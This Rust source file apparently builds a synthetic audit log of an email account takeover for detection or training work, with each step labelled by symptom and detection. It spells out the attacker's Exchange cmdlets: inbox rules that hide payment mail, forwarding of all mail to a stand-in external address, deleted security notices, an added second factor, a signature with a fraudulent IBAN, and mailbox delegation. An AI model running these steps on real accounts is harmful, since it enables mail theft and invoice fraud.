//! What the attacker changes in Alice's account: rules, forwarding, second factor, passwords, profile, signature.

use super::attack::Intruder;
use super::cast::{ALICE, FRANK};
use super::directory::{Principal, correlation, included, listed};
use super::exchange::Mail;
use super::log::{Log, Moment, Session};
use super::office::Alert;

pub fn take_over(log: &mut Log, intruder: &Intruder) {
    rules(log, &intruder.first);
    forwarding(log, &intruder.first);
    notice_removed(log, &intruder.first);
    second_factor(log);
    passwords(log);
    profile(log, &intruder.second);
    signature(log, &intruder.second);
    delegate(log, &intruder.second);
}

/// One rule hides the answers, the other sends every mail out of the company.
fn rules(log: &mut Log, session: &Session) {
    let moment = log.story("2026-03-02T01:20:10", "alice/rule-dot");
    let parameters = [
        ("AlwaysDeleteOutlookRulesBlob", "False"),
        ("Force", "False"),
        ("Name", "."),
        ("SubjectOrBodyContainsWords", "invoice;payment;bank details;IBAN"),
        ("MoveToFolder", "RSS Subscriptions"),
        ("MarkAsRead", "True"),
        ("StopProcessingRules", "True"),
    ];
    let object = format!(r"{}\.", ALICE.canonical());
    log.cmdlet(&moment, (session, 0), "New-InboxRule", &object, &parameters);
    log.symptom(&moment, "inbox-rules");

    let moment = log.story("2026-03-02T01:21:30", "alice/rule-forward");
    let properties = [
        ("RuleOperation", "AddMailboxRule"),
        ("RuleId", "-5872034411902318591"),
        ("RuleState", "Enabled"),
        ("RuleCondition", "{}"),
        ("RuleName", ".."),
        ("RuleProvider", "RuleOrganizer"),
        ("RuleActions", r#"[{"ActionType":"Forward","Recipients":["collect@mailbox-backup.example"]}]"#),
    ];
    log.update_rules(&moment, session, &properties);
    log.symptom(&moment, "inbox-rules");
    log.symptom(&moment, "forwarding");
}

fn forwarding(log: &mut Log, session: &Session) {
    let moment = log.story("2026-03-02T01:22:15", "alice/forwarding-set");
    let identity = ALICE.upn();
    let parameters = [
        ("Identity", identity.as_str()),
        ("ForwardingSmtpAddress", "smtp:alice.mori@mailbox-backup.example"),
        ("DeliverToMailboxAndForward", "False"),
    ];
    log.cmdlet(&moment, (session, 0), "Set-Mailbox", &ALICE.canonical(), &parameters);
    log.symptom(&moment, "forwarding");

    let alerted = log.story("2026-03-02T01:25:00", "alice/alert-forwarding");
    let alert = Alert {
        name: "Creation of forwarding/redirect rule",
        severity: "Informational",
        category: "ThreatManagement",
        cause: Some(&moment.id),
    };
    log.alert(&alerted, &ALICE, &alert);
    log.symptom(&alerted, "forwarding");
}

fn notice_removed(log: &mut Log, session: &Session) {
    let notices = [
        (
            "2026-03-02T01:24:10",
            "alice/sign-in-notice-removed",
            "MoveToDeletedItems",
            "Security alert: new sign-in to your account",
        ),
        (
            "2026-03-02T01:27:40",
            "alice/security-info-notice-removed",
            "SoftDelete",
            "Security info was added to your account",
        ),
    ];
    for (time, name, operation, subject) in notices {
        let moment = log.story(time, name);
        let mail = Mail::new(name, "account-security.example", subject);
        let to = (operation == "MoveToDeletedItems").then_some(r"\Deleted Items");
        log.delete(&moment, session, operation, (r"\Inbox", to), &[mail]);
        log.symptom(&moment, "missing-mail");
        log.detection(&moment, "evidence-clean-up");
    }
}

/// A second authenticator and another telephone number.
fn second_factor(log: &mut Log) {
    let moment = log.story("2026-03-02T01:26:02", "alice/authenticator-added");
    let own = app_detail("Alice's iPhone", "apns2-alice-1", 21);
    let other = app_detail("SM-A155F", "gcm-unknown-7", 77);
    let changes = [
        ("StrongAuthenticationPhoneAppDetail", format!("[\r\n{own}\r\n]"), format!("[\r\n{own},\r\n{other}\r\n]")),
        included("StrongAuthenticationPhoneAppDetail"),
    ];
    change(log, &moment, "Update user.", &changes);
    log.symptom(&moment, "credential-change");
    log.detection(&moment, "mfa-method-added");

    let moment = log.story("2026-03-02T01:27:10", "alice/authentication-phone-changed");
    let changes = [
        ("StrongAuthenticationUserDetails", phone_details("+81 90-0000-0121"), phone_details("+234 700 000 0142")),
        included("StrongAuthenticationUserDetails"),
    ];
    change(log, &moment, "Update user.", &changes);
    log.symptom(&moment, "credential-change");
    log.symptom(&moment, "profile-change");
    log.detection(&moment, "mfa-method-added");
}

/// Two new passwords, and an app password that outlives resets.
fn passwords(log: &mut Log) {
    let actor = Principal::of(&ALICE);
    for (time, name) in
        [("2026-03-02T01:31:05", "alice/password-changed-1"), ("2026-03-02T01:55:30", "alice/password-changed-2")]
    {
        let moment = log.story(time, name);
        let companion = log.story(time, &format!("{name}-tokens"));
        log.password((&moment, &companion), (&actor, &ALICE), "Change user password.");
        log.symptom(&moment, "credential-change");
        log.symptom(&companion, "credential-change");
    }
    let moment = log.story("2026-03-02T01:33:20", "alice/app-password");
    let operation = "Create application password for user.";
    change(log, &moment, operation, &[]);
    log.symptom(&moment, "credential-change");
}

fn profile(log: &mut Log, session: &Session) {
    let moment = log.story("2026-03-02T01:36:00", "alice/display-name");
    let changes = [("DisplayName", listed(ALICE.name), listed("Contoso Finance Help Desk")), included("DisplayName")];
    change(log, &moment, "Update user.", &changes);
    log.symptom(&moment, "display-name");
    log.symptom(&moment, "profile-change");

    let moment = log.story("2026-03-02T01:37:20", "alice/telephone-and-postal-code");
    let changes = [
        ("Mobile", listed("+81 90-0000-0121"), listed("+234 700 000 0142")),
        ("TelephoneNumber", listed("+81 3-0000-0121"), listed("+44 20 7946 0142")),
        ("PostalCode", listed("100-0001"), listed("EC1A 1BB")),
        included("Mobile, TelephoneNumber, PostalCode"),
    ];
    change(log, &moment, "Update user.", &changes);
    log.symptom(&moment, "profile-change");

    let moment = log.story("2026-03-02T01:38:45", "alice/set-user");
    let identity = ALICE.upn();
    let parameters = [
        ("Identity", identity.as_str()),
        ("Phone", "+44 20 7946 0142"),
        ("MobilePhone", "+234 700 000 0142"),
        ("PostalCode", "EC1A 1BB"),
        ("StreetAddress", "1 Example Street"),
    ];
    log.cmdlet(&moment, (session, 0), "Set-User", &ALICE.canonical(), &parameters);
    log.symptom(&moment, "profile-change");
}

fn signature(log: &mut Log, session: &Session) {
    let moment = log.story("2026-03-02T01:42:00", "alice/signature");
    let identity = ALICE.upn();
    let html = "<div>Alice Mori<br>Contoso Finance<br><b>Our bank has changed.</b> Please pay to IBAN GB82 WEST 1234 5698 7654 32, BIC WESTGB2L</div>";
    let parameters = [
        ("Identity", identity.as_str()),
        ("SignatureHtml", html),
        ("AutoAddSignature", "True"),
        ("AutoAddSignatureOnReply", "True"),
    ];
    log.cmdlet(&moment, (session, 0), "Set-MailboxMessageConfiguration", &ALICE.canonical(), &parameters);
    log.symptom(&moment, "signature");
}

/// The account of somebody who has left may now open Alice's mailbox.
fn delegate(log: &mut Log, session: &Session) {
    let moment = log.story("2026-03-02T01:44:30", "alice/delegate");
    let (identity, user) = (ALICE.upn(), FRANK.upn());
    let parameters = [
        ("Identity", identity.as_str()),
        ("User", user.as_str()),
        ("AccessRights", "FullAccess"),
        ("InheritanceType", "All"),
        ("AutoMapping", "False"),
    ];
    log.cmdlet(&moment, (session, 0), "Add-MailboxPermission", &ALICE.canonical(), &parameters);
    log.detection(&moment, "mailbox-delegate");
}

/// A change Alice's account makes to itself.
fn change(log: &mut Log, moment: &Moment, operation: &str, changes: &[(&str, String, String)]) {
    let actor = Principal::of(&ALICE);
    let correlation_id = correlation(&moment.id);
    log.directory(moment, (&actor, &ALICE), operation, changes, &correlation_id);
}

fn app_detail(device: &str, token: &str, number: u32) -> String {
    format!(
        "  {{\r\n    \"DeviceName\": \"{device}\",\r\n    \"DeviceToken\": \"{token}\",\r\n    \"DeviceTag\": \"SoftwareTokenActivated\",\r\n    \"PhoneAppVersion\": \"6.2601.0531\",\r\n    \"OathTokenTimeDrift\": 0,\r\n    \"Id\": \"6f1c2a7e-0000-4000-8000-{number:012}\",\r\n    \"AuthenticationType\": 3,\r\n    \"NotificationType\": 2\r\n  }}"
    )
}

fn phone_details(number: &str) -> String {
    format!(
        "[\r\n  {{\r\n    \"PhoneNumber\": \"{number}\",\r\n    \"AlternativePhoneNumber\": null,\r\n    \"Email\": null,\r\n    \"VoiceOnlyPhoneNumber\": null\r\n  }}\r\n]"
    )
}
